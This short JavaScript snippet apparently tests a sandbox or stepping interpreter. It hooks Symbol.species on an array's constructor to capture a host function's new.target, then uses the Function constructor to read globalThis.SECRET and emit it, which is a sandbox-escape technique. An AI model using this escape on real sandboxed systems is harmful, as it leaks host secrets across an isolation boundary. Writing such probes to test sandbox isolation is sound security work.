let found;
at_step();
const own = [1, 2, 3];  // step
own.constructor = { [Symbol.species]: function (size) { found = new.target; return []; } };  // step
own.map(host_function);  // step
const secret = (found || own).constructor.constructor('return globalThis.SECRET')();  // step
past_step();
emit(secret);  // step
